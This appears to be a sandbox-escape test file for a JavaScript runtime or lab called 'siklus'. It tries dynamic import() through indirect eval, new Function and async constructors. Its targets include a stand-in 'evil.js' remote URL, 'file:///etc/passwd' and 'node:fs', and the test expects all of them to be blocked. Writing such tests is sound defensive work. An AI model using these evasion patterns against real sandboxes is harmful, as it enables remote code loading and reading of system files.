// threat: 18 — import() that no compiler sees: from eval, from new Function, from an async generator's constructor
// ends: fail
const addresses = [
  "https://example.org/evil.js",
  "http://example.org/evil.js",
  "data:text/javascript,export default 1",
  "data:application/json,{}",
  "file:///etc/passwd",
  "node:fs",
  "/assets/conductor.js",
  "siklus/lab",
];
const AsyncFunction = (async () => {}).constructor as any;
const AsyncGenerator = (async function* () {}).constructor as any;
for (const address of addresses) {
  const code = "import(" + JSON.stringify(address) + ")";
  for (const load of [
    () => (0, eval)(code),
    () => new Function("return " + code)(),
    () => new AsyncFunction("return await " + code)(),
    () => new AsyncGenerator("yield await " + code)().next(),
  ]) {
    try {
      await load();
      console.log("siklus-escaped: loaded " + address);
    } catch {}
  }
}

export function countOutcomes() {
  return { tp: 0, fp: 0, fn: 0, tn: 0 };
}
